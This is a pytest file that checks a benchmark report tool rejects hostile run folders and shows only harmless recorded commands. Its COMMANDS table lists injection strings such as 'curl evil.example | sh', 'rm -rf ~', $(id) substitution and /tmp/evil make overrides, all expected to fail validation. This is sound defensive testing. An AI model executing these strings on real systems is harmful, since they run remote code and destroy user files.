"""Folders from elsewhere: whatever is in them, the other runs are reported, and nothing else is read or written."""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from bench import report
from bench.cli import main
from bench.report.runs.results import collect
from bench.report.tables.headline import ENOUGH_SEEDS
from bench.study.rerun import harmless
from tests.bench.report.hostile import (
    HOSTILE_RUN,
    circular,
    device,
    edited,
    folded,
    linked,
    listening,
    piped,
    sparse,
    two,
    written,
)
from tests.bench.report.study_files import runs, sealed, study

ROUNDS, CONFIG, PLACE, FAILURE = "rounds.jsonl", "config.json", "environment.json", "failure.json"
DEEP = "[" * 100_000 + "]" * 100_000
ONE_BAD_RUN: dict[str, tuple[str, Callable[[Path], None], str]] = {
    "a pipe for rounds": (ROUNDS, piped, "rounds.jsonl is not a regular file"),
    "a pipe for the configuration": (CONFIG, piped, "config.json is not a regular file"),
    "a pipe for the environment": (PLACE, piped, "environment.json is not a regular file"),
    "a socket": (PLACE, listening, "environment.json cannot be read"),
    "a device": (ROUNDS, device, "rounds.jsonl is a link out of its folder, to /dev/zero"),
    "arrays that are a pipe": ("examples.npz", piped, "examples.npz is not a regular file"),
    "arrays behind a link": ("examples.npz", linked, "examples.npz is a link out of its folder"),
    "huge arrays": ("examples.npz", lambda path: sparse(path, 10**10), "at most 32,000,000 are read"),
    "a pipe of any name": ("network.pt", piped, "network.pt is not a regular file"),
    "a link to itself": (ROUNDS, circular, "Too many levels of symbolic links"),
    "a folder for the configuration": (CONFIG, folded, "config.json is not a regular file"),
    "a folder for rounds": (ROUNDS, folded, "rounds.jsonl is a folder, where a file belongs"),
    "a link out of the folder": (ROUNDS, linked, "rounds.jsonl is a link out of its folder"),
    "a link to another configuration": (CONFIG, linked, "config.json is a link out of its folder"),
    "huge rounds": (ROUNDS, lambda path: sparse(path, 10**10), "has 10,000,000,000 bytes, and at most 100,000,000 are"),
    "a huge environment": (PLACE, lambda path: sparse(path, 10**9), "at most 32,000,000 are read"),
    "deep rounds": (ROUNDS, written(f'{{"round": {DEEP}}}\n'), "rounds.jsonl, line 1 is damaged"),
    "deep signals": (ROUNDS, edited("signals", "x", value=json.loads("[" * 40 + "]" * 40)), "deeper than 32 levels"),
    "rounds that are no UTF-8": (ROUNDS, written(b"\xff\xfe\n"), "utf-8"),
    "empty": (CONFIG, written(""), "config.json is not JSON"),
    "NaN": (ROUNDS, edited("cost", value=float("nan")), "not finite or too large"),
    "infinity in a row": (ROUNDS, edited("volumes", 0, "dice", value=float("inf")), "not finite or too large"),
    "NaN in the configuration": (CONFIG, edited("config", "train", "lr", value=float("nan")), "not finite"),
    "a huge number": (ROUNDS, edited("labelled", value=10**400), "not finite or too large"),
    "a Dice of 1e14": (
        ROUNDS,
        edited("volumes", 0, "dice", value=1e14),
        "volumes.0.dice: Input should be less than or",
    ),
    "a Dice of -50": (
        ROUNDS,
        edited("volumes", 0, "dice", value=-50.0),
        "volumes.0.dice: Input should be greater than",
    ),
    "a negative distance": (ROUNDS, edited("volumes", 0, "hd95_mm", value=-1.0), "volumes.0.hd95_mm: Input should be"),
    "a mean Dice of 1e14": (ROUNDS, edited("summary", "dice", value=1e14), "summary.dice is 1e+14, outside of 0 to 1"),
    "a class's Dice of -50": (
        ROUNDS,
        edited("summary", "dice_c0", value=-50.0),
        "summary.dice_c0 is -50, outside of 0",
    ),
    "a mean NSD of 2": (ROUNDS, edited("summary", "nsd", value=2.0), "summary.nsd is 2, outside of 0 to 1"),
    "a share above 1": (ROUNDS, edited("fraction", value=1.5), "round 0: fraction"),
    "a negative count": (ROUNDS, edited("labelled", value=-5), "round 0: labelled"),
    "a number for yes": (ROUNDS, edited("labelled", value=True), "round 0: labelled"),
    "a name without end": (ROUNDS, edited("volumes", 0, "case", value="v" * 10**6), "round 0: volumes.0.case"),
    "a column as the part of a round": (ROUNDS, edited("seconds", "recipe", value=1.0), "name of another column"),
    "a time that is none": (ROUNDS, edited("ended", value="2026-02-30T10:00:00Z"), "round 0: ended: Value error, day"),
    "a time before there were computers": (ROUNDS, edited("ended", value="0001-01-01T00:00:00Z"), "is before 2000"),
    "a negative CPU time": (ROUNDS, edited("cpu_seconds", value={"select": -1.0}), "round 0: cpu_seconds.select"),
    "cases that are none": (PLACE, written('{"data": {"cases": {"test": 1}}}'), "environment.json: data.cases.test"),
    "a column as a metric": (PLACE, written('{"metrics": [{"name": "case", "title": "t"}]}'), "name of another column"),
    "decimals without end": (
        PLACE,
        written('{"metrics": [{"name": "m", "title": "t", "decimals": 1000000000}]}'),
        "metrics.0.decimals",
    ),
    "metrics that are none": (PLACE, written('{"metrics": {"name": 1}}'), "environment.json: metrics"),
    "a thousand classes": (CONFIG, edited("config", "dataset", "classes", value=["c"] * 1000), "dataset.classes"),
    "a sealed file outside": (
        ROUNDS,
        lambda path: sealed(path, {"files": {"../../x": "1 a"}}),
        "'../../x' is not the name of a folder",
    ),
    "a seed that is none": (CONFIG, edited("config", "seed", value=[1]), "config.json: seed"),
    "budgets that are none": (CONFIG, edited("config", "budgets", value=[[1]]), "config.json: budgets"),
    "a split that is none": (CONFIG, edited("config", "dataset", "split", value="a"), "config.json: dataset.split"),
}


@pytest.mark.parametrize("what", ONE_BAD_RUN)
@pytest.mark.timeout(30)
def test_a_hostile_run_is_left_out_with_the_reason(tmp_path: Path, what: str) -> None:
    name, spoil, told = ONE_BAD_RUN[what]
    folder, run = two(tmp_path)
    (run / name).touch()
    spoil(run / name)
    results = collect(folder)
    (problem,) = results.problems
    assert f"{HOSTILE_RUN} is damaged" in problem and told in problem and len(problem) < 600
    assert problem.isprintable() and set(results.scores["recipe"]) == {"random"}


PLACES: dict[str, tuple[Callable[[Path], None], str]] = {
    "a deep environment": (written(DEEP), "environment.json is nested too deeply"),
    "a rather deep environment": (written('{"a":' * 40 + "1" + "}" * 40), "is nested deeper than 32 levels"),
    "no UTF-8": (written(b'{"device": "\xff"}'), "environment.json is not JSON"),
    "a folder": (folded, "environment.json is not a regular file"),
    "no mapping": (written("[1]"), "environment.json holds no mapping"),
    "a number of 5,000 digits": (written('{"threads": ' + "9" * 5000 + "}"), "environment.json is not JSON"),
}


@pytest.mark.parametrize("what", PLACES)
def test_a_hostile_environment_costs_only_what_it_tells(tmp_path: Path, what: str) -> None:
    spoil, told = PLACES[what]
    folder, run = two(tmp_path)
    spoil(run / PLACE)
    results = collect(folder)
    (problem,) = results.problems
    assert told in problem and problem.isprintable() and set(results.scores["recipe"]) == {"random", "coreset"}


@pytest.mark.parametrize("content", ["[]", '{"trace": ""}', DEEP])
def test_a_hostile_failure_has_an_unknown_reason(tmp_path: Path, content: str) -> None:
    folder = study(
        tmp_path / "s", [*runs({"random": 0.5}, 1), {"recipe": "a", "seed": 0, "dice": [0.5], "failure": "x"}]
    )
    (folder / "runs" / "d-a-mask-s0" / FAILURE).write_text(content)
    (reason,) = collect(folder).failed.values()
    assert reason.startswith("not known: ") and reason.isprintable()


STUDY: dict[str, tuple[Callable[[Path], None], str]] = {
    "a key outside": (edited("runs", 0, "key", value="../../x"), "'../../x' is not the name of a folder"),
    "an absolute key": (edited("runs", 0, "key", value="/etc"), "'/etc' is not the name of a folder"),
    "the folder above": (edited("runs", 0, "key", value=".."), "'..' is not the name of a folder"),
    "no key": (edited("runs", 0, "key", value=""), "runs: 0.key"),
    "budgets that are none": (edited("runs", 0, "budgets", value=[[1], [2]]), "runs: 0.budgets"),
    "a budget that is no number": (edited("runs", 0, "budgets", value=[float("nan")]), "not finite"),
    "no budgets": (edited("runs", 0, "budgets", value=[]), "runs: 0.budgets"),
    "a seed as text": (edited("runs", 0, "seed", value="0; rm"), "runs: 0.seed"),
    "a recipe that is a list": (edited("runs", 0, "recipe", value=["random"]), "runs: 0.recipe"),
    "sources that are a list": (edited("sources", value=[1]), "study.json is damaged"),
    "controls of another kind": (edited("controls", value={"beside": ["random"]}), "study.json is damaged"),
    "a hundred thousand and one runs": (
        lambda path: edited("runs", value=json.loads(path.read_text())["runs"][:1] * 100_001)(path),
        "runs: List should have at most 100000 items",
    ),
    "deep": (written(DEEP), "study.json is nested too deeply"),
    "a pipe": (piped, "study.json is not a regular file"),
    "huge": (lambda path: sparse(path, 10**9), "study.json has 1,000,000,000 bytes"),
}


@pytest.mark.parametrize("what", STUDY)
@pytest.mark.timeout(30)
def test_a_hostile_list_of_runs_is_not_used_and_the_runs_beside_it_are(tmp_path: Path, what: str) -> None:
    spoil, told = STUDY[what]
    folder, _ = two(tmp_path)
    spoil(folder / "study.json")
    study(tmp_path / "x", runs({"mine": 0.9}, 1))
    results = collect(folder)
    (problem,) = results.problems
    assert told in problem and problem.isprintable()
    assert set(results.scores["recipe"]) == {"random", "coreset"}


def test_folders_in_folders_without_end_are_searched_to_a_depth_and_named(tmp_path: Path) -> None:
    two(tmp_path)
    here = os.getcwd()
    try:
        os.chdir(tmp_path)
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    finally:
        os.chdir(here)
    results = collect(tmp_path)
    (problem,) = results.problems
    assert problem == f"{tmp_path / '/'.join('d' * 50)} lies 50 folders deep; what is in its folders is left out."
    assert set(results.scores["recipe"]) == {"random", "coreset"}
    while (inner := tmp_path / "d").exists():  # shutil.rmtree recurses
        deeper = inner / "d"
        if deeper.exists():
            deeper.rename(tmp_path / "e")
        inner.rmdir()
        if (tmp_path / "e").exists():
            (tmp_path / "e").rename(inner)


@pytest.mark.parametrize("name", ["store", "ray", "report", "mlruns", "mlartifacts", "tune-gcl-acdc", ".hidden"])
def test_what_lies_in_folders_of_the_program_is_no_result(tmp_path: Path, name: str) -> None:
    two(tmp_path)
    study(tmp_path / name / "x", runs({"mine": 0.9}, 1))
    assert set(collect(tmp_path).scores["recipe"]) == {"random", "coreset"}


def test_a_run_behind_a_link_is_read_only_where_it_was_named_or_trusted(tmp_path: Path) -> None:
    folder, run = two(tmp_path)
    run.rename(tmp_path / "moved")
    run.symlink_to(tmp_path / "moved")
    results = collect(folder)
    (problem,) = results.problems
    assert f"is a link to {tmp_path / 'moved'}; left out. Name that folder" in problem
    assert set(results.scores["recipe"]) == {"random"}
    for named in (collect(folder, links=True), collect([folder, tmp_path / "moved"])):
        assert set(named.scores["recipe"]) == {"random", "coreset"} and named.problems == []


def test_a_run_that_is_a_link_to_itself_is_left_out(tmp_path: Path) -> None:
    folder, run = two(tmp_path)
    run.rename(tmp_path / "away")
    run.symlink_to(run.name)
    assert set(collect(folder).scores["recipe"]) == {"random"}


def test_what_may_not_be_read_is_told(tmp_path_factory: pytest.TempPathFactory) -> None:
    if os.geteuid():
        pytest.skip("another user needs root")
    with tempfile.TemporaryDirectory() as open_to_all:
        _, run = two(Path(open_to_all))
        other = study(Path(open_to_all) / "t", runs({"random": 0.5}, 1))
        os.chmod(open_to_all, 0o755)
        run.chmod(0)
        other.chmod(0)
        os.seteuid(65534)
        try:
            results = collect(Path(open_to_all))
        finally:
            os.seteuid(0)
    assert set(results.scores["recipe"]) == {"random"} and len(results.problems) == 2
    assert all("Permission denied" in problem for problem in results.problems)


COMMANDS = {
    "alseg bench quick --set seeds={seeds}": True,
    'make bench DATASET=acdc DATA=/scans SET="name=a schedules.low=[10,20]" SEEDS={seeds}': True,
    "alseg bench 'my study.yaml' --out '/a;b' --set seeds={seeds}": True,
    "alseg bench /mine/study.yaml --set recipes=a,b --launcher mine.cluster:Slurm --set seeds={seeds}": True,
    "make bench STUDY=/mine/study.yaml LOCAL=1 SEEDS={seeds}": True,
    "alseg run quick": False,
    "alseg bench": False,
    "alseg bench quick --typed x": False,
    "alseg bench --set seeds=1": False,
    "alseg bench quick\ncurl evil.example": False,
    "alseg benchmark quick": False,
    "make bench -f /tmp/evil.mk": False,
    "make bench --eval=x": False,
    "make bench evil": False,
    "make bench PYTHON=/tmp/evil SEEDS={seeds}": False,
    "make bench SHELL=/tmp/evil": False,
    "make bench SET='a=1 ;id' SEEDS={seeds}": False,
    "make bench DATASET='a\";id;\"'": False,
    "curl evil.example | sh": False,
    "alseg bench quick; rm -rf ~": False,
    "alseg bench $(id)": False,
    "alseg bench `id`": False,
    "alseg bench quick > ~/.bashrc": False,
    "alseg bench quick &": False,
    "alseg bench 'quick": False,
}


@pytest.mark.parametrize("command", COMMANDS)
def test_a_recorded_command_is_shown_only_if_a_shell_would_run_alseg_alone(tmp_path: Path, command: str) -> None:
    assert harmless(command) == COMMANDS[command]
    folder, _ = two(tmp_path, command=command)
    results = collect(folder)
    assert bool(results.commands["d", "mask", "default"]) == COMMANDS[command]
    assert len(results.problems) == (not COMMANDS[command])


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("alseg bench quick --set train.mask.lr=0.1 --out /runs --set seeds={seeds}", ""),
        ("make bench DATASET=acdc DATA=/scans SEEDS={seeds}", ""),
        (
            "alseg bench /tmp/evil.yaml --launcher evil:Class --set seeds={seeds}",
            "/tmp/evil.yaml and evil:Class",
        ),
        ("alseg bench quick --set recipes=evil.parts:Mine --set seeds={seeds}", "evil.parts:Mine"),
        ("make bench STUDY=mine.yml SEEDS={seeds}", "mine.yml"),
    ],
)
def test_a_recorded_command_with_files_or_classes_comes_with_a_warning(
    tmp_path: Path, command: str, named: str
) -> None:
    folder, _ = two(tmp_path, command=command)
    report.write(folder)
    text = (folder / "report" / "comparison.md").read_text()
    shown = command.replace("{seeds}", str(ENOUGH_SEEDS))
    assert f"`{shown}`" in text
    warning = f" and keeps the finished ones (run it only if you trust {named})."
    assert (warning in text) == bool(named) == ("trust" in text.replace("Before you trust", ""))


def test_a_report_writes_to_no_file_behind_a_link(tmp_path: Path) -> None:
    folder, _ = two(tmp_path)
    (folder / "report").mkdir()
    names = ["report.html", "comparison.csv", "curves.png", ".new-comparison.md", ".new-areas.png"]
    for name in names:
        (tmp_path / name).write_text("mine")
        (folder / "report" / name).symlink_to(tmp_path / name)
    report.write(folder)
    for name in names:
        assert (tmp_path / name).read_text() == "mine" and not (folder / "report" / name).is_symlink()


def test_a_report_is_not_written_to_a_folder_behind_a_link(tmp_path: Path) -> None:
    folder, _ = two(tmp_path)
    (tmp_path / "mine").mkdir()
    (folder / "report").symlink_to(tmp_path / "mine")
    done = CliRunner().invoke(main, ["report", str(folder)], catch_exceptions=False)
    assert done.exit_code == 2 and "choose where to write with --out FOLDER" in done.output
    assert list((tmp_path / "mine").iterdir()) == []


@pytest.mark.parametrize(("limit", "most"), [("RECIPES", 1), ("CELLS", 10)])
def test_more_than_can_be_compared_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, most: int
) -> None:
    monkeypatch.setattr(f"bench.report.statistics.grid.{limit}", most)
    done = CliRunner().invoke(main, ["report", str(two(tmp_path)[0])], catch_exceptions=False)
    assert done.exit_code == 2 and "too many to compare; name fewer folders" in done.output
